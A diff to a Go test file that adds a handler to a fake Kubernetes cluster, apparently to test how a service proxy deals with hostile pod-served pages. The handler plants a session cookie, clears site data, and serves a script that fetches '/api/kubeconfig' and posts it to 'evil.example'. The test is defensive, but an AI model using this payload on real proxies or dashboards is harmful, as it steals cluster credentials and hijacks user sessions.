@@ -114,6 +114,15 @@ func newFakeCluster(t *testing.T) *fakeCluster {
 		fc.note(r)
 		json.NewEncoder(w).Encode(map[string]any{"path": r.URL.RequestURI(), "header": r.Header, "host": r.Host})
 	})
+	// A page a pod serves, as a service proxy passes it on: what anyone
+	// who may run a pod writes.
+	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
+		fc.note(r)
+		http.SetCookie(w, &http.Cookie{Name: "__Host-tether_session", Value: "planted", Path: "/", Secure: true})
+		w.Header().Set("Clear-Site-Data", `"cookies"`)
+		w.Header().Set("Content-Type", "text/html")
+		io.WriteString(w, `<script>fetch("/api/kubeconfig").then(r => r.text()).then(k => fetch("https://evil.example/", {method: "POST", body: k}))</script>`)
+	})
 	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
 		fc.note(r)
 		http.Redirect(w, r, "https://elsewhere.example.com/", http.StatusFound)
